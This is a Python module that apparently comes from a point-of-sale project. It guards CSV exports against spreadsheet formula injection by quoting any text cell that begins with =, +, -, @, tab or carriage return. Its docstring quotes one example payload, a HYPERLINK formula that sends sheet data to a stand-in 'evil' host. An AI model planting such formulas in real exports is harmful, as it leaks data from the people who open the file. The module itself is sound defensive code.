"""CSV files a spreadsheet can open safely: no text cell is run as a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell beginning with ``=``, ``+``,
``-`` or ``@`` as a formula, and tab or carriage return can hide one: a product or cashier
named ``=HYPERLINK("http://evil/?"&A1, "Süt")`` in an export would leak the sheet or run
commands when opened ("CSV injection"). As OWASP recommends, every **text** cell that begins
with one of those characters is written with a single quote before it (``'=HYPERLINK(...``),
which spreadsheets show as text and hide.

**Numbers stay numbers**: a cell given as ``int`` or ``Decimal`` (an amount, a quantity, a VAT
rate) is written as it is, so a refund's ``-12.50`` still adds up in a sum. The type decides,
never the text: a name ``-5 % indirim`` is text and gets its quote. Every CSV this project
writes goes through ``csv_writer`` (``pos export sales``, the demo catalog generator).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Protocol

# OWASP "CSV Injection": the characters a formula can begin with.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | Decimal | None


class _Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def safe_cell(value: Cell) -> str | int | Decimal:
    """``value`` as a CSV cell: numbers as they are, text (None as empty) with a ``'`` before
    it when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int: written as the word, like any text
        return str(value)
    if isinstance(value, int | Decimal):
        return value
    if value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose rows go through ``safe_cell``."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Cell]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable) -> SafeCsvWriter:
    """A CSV writer for ``out`` that neutralises formulas in text cells (module docstring)."""
    return SafeCsvWriter(out)
